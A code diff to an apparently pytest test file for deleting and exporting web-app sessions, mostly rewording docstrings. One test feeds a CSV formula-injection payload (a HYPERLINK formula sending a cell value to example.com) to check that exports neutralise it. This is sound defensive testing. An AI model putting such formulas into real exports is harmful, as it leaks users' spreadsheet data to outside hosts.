@@ -1,4 +1,4 @@
-"""What is done with sessions that were chosen in the list."""
+"""Deleting and exporting sessions that were chosen in the list."""
 
 import csv
 import html
@@ -24,7 +24,7 @@ FIELD = re.compile(r'<input type="hidden" name="(\w+)" value="([^"]*)">')
 
 
 def log(reader: Any, unique: str, count: int, **more: Any) -> list[str]:
-    """Log a datapoint in each of some sessions; gives the IDs of these, oldest first."""
+    """Log a datapoint in each of several sessions, and return the IDs of the sessions, oldest first."""
     created = reader.log(
         *(
             {"project": unique, "session_reference_id": f"{unique} {n}", "output": f"output {n} of {unique}"}
@@ -36,7 +36,7 @@ def log(reader: Any, unique: str, count: int, **more: Any) -> list[str]:
 
 
 def asked(reader: Any, query: str = "", **chosen: Any) -> tuple[str, dict[str, list[str]]]:
-    """What a reader who wants to delete is asked, and the form to confirm it."""
+    """Return the question before a deletion, and the form to confirm it."""
     answer = reader.post(f"/sessions/delete{query}", data=chosen)
     assert answer.ok, answer.text
     question = re.search("<h1>(.*?)</h1>", answer.text)
@@ -69,7 +69,7 @@ def export(reader: Any, extension: str, query: str = "", **chosen: Any) -> reque
 
 
 def test_chosen_sessions_are_deleted_once_that_is_confirmed(reader: Any, unique: str) -> None:
-    """The question says how much that is; the others stay."""
+    """The question has their number, and other sessions stay."""
     first, second, third = log(reader, unique, 3)
     reader.log(project=unique, session_id=first, output="more")
     question, form = asked(reader, session=[first, third])
@@ -83,7 +83,7 @@ def test_chosen_sessions_are_deleted_once_that_is_confirmed(reader: Any, unique:
 
 
 def test_what_is_gone_meanwhile_is_told(reader: Any, unique: str) -> None:
-    """It is no error that somebody else was faster."""
+    """It is no error if another reader was faster."""
     first, second, third = log(reader, unique, 3)
     _, form = asked(reader, session=[first, second])
     confirm(reader, asked(reader, session=first)[1])
@@ -98,7 +98,7 @@ def test_what_is_gone_meanwhile_is_told(reader: Any, unique: str) -> None:
 def test_all_that_the_filter_finds_are_those_that_the_reader_was_asked_about(
     reader: Any, unique: str
 ) -> None:
-    """What comes or changes between the question and its answer stays, and what no filter finds."""
+    """Sessions that arrive or change after the question stay, and so do those outside the filter."""
     other = log(reader, f"other-{unique}", 1)
     project_id = reader.log(project=unique, session_reference_id=unique, output="kept")["project_id"]
     old = log(reader, unique, 60)
@@ -116,7 +116,7 @@ def test_all_that_the_filter_finds_are_those_that_the_reader_was_asked_about(
 
 
 def test_a_deleted_session_leads_back_to_the_list(reader: Any, unique: str) -> None:
-    """The page of a session has the button, and its filter stays."""
+    """The page of a session has the button, and keeps the filter."""
     (session_id,) = log(reader, unique, 1)
     page = reader.read(f"/sessions/{session_id}?q={unique}")
     assert f'action="/sessions/delete?q={unique}"' in page
@@ -151,7 +151,7 @@ def test_a_choice_that_cannot_be_understood_is_refused(
 
 
 def test_nothing_of_another_organisation_is_deleted_or_exported(locked_server: Any, unique: str) -> None:
-    """To others its sessions do not exist, one by one or all together."""
+    """Its sessions do not exist for others, neither single ones nor all together."""
     reader, _ = locked_server.reader(f"{unique} one")
     stranger, _ = locked_server.reader(f"{unique} two")
     session_ids = log(reader, unique, 2)
@@ -191,7 +191,7 @@ def test_a_deletion_goes_on_when_the_reader_leaves(reader: Any, unique: str) -> 
 
 
 def test_an_export_of_chosen_sessions_can_be_imported(reader: Any, unique: str, tmp_path: Path) -> None:
-    """With what belongs to them and nothing else."""
+    """With their records, and nothing else."""
     first, second, _ = log(reader, unique, 3, feedback=[{"type": "rating", "value": "good"}])
     parent = reader.log(project=unique, session_id=first, output="answer")
     reader.log(project=unique, session_id=first, parent_id=parent["id"], output="step")
@@ -236,7 +236,7 @@ def test_ids_are_one_on_each_line(reader: Any, unique: str) -> None:
 
 
 def test_csv_has_a_row_for_each_datapoint(reader: Any, unique: str) -> None:
-    """As RFC 4180 says, whatever is in a text; values that are JSON are JSON."""
+    """As in RFC 4180, with any text. Values that are JSON stay JSON."""
     output = 'one, "two"\r\nthree;\nünï \N{GRINNING FACE}'
     created = reader.log(
         {
@@ -271,7 +271,7 @@ def test_csv_has_a_row_for_each_datapoint(reader: Any, unique: str) -> None:
 
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_no_text_is_a_formula_to_a_spreadsheet(sqlite_reader: Any, unique: str, begin: str) -> None:
-    """Whatever field it was logged in."""
+    """In any field."""
     text = f'{begin}HYPERLINK("https://example.com/"&A1)'
     created = sqlite_reader.log(
         project=f"{text} {unique}", session_reference_id=unique, output=text, error=text, source=text
@@ -287,7 +287,7 @@ def test_no_text_is_a_formula_to_a_spreadsheet(sqlite_reader: Any, unique: str, 
 def test_a_deletion_that_stops_says_how_far_it_got(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, unique: str
 ) -> None:
-    """And how the rest is deleted."""
+    """It also says how to delete the rest."""
     database = tmp_path / "locked.sqlite3"
     with served(database) as base_url:
         reader = Reader(base_url.removesuffix("/v4"))
@@ -319,7 +319,7 @@ def test_of_large_datapoints_few_are_exported_at_a_time(
     for _ in range(12):
         reader.log(*[large] * 10)
     status = Path(f"/proc/{server.process.pid}/status")
-    status.with_name("clear_refs").write_text("5")  # from now on, the most memory counts anew
+    status.with_name("clear_refs").write_text("5")  # from now on, the peak of the memory is counted anew
     before = memory_in(status.read_text())
     exported = len(export(reader, extension, all="1").content)
     assert exported > 120 * 900_000
@@ -328,7 +328,7 @@ def test_of_large_datapoints_few_are_exported_at_a_time(
 
 
 def memory_in(status: str) -> int:
-    """The most memory that a process has had, in bytes."""
+    """Return the peak of the memory of a process, in bytes."""
     match = re.search(r"VmHWM:\s+(\d+) kB", status)
     assert match
     return 1024 * int(match[1])
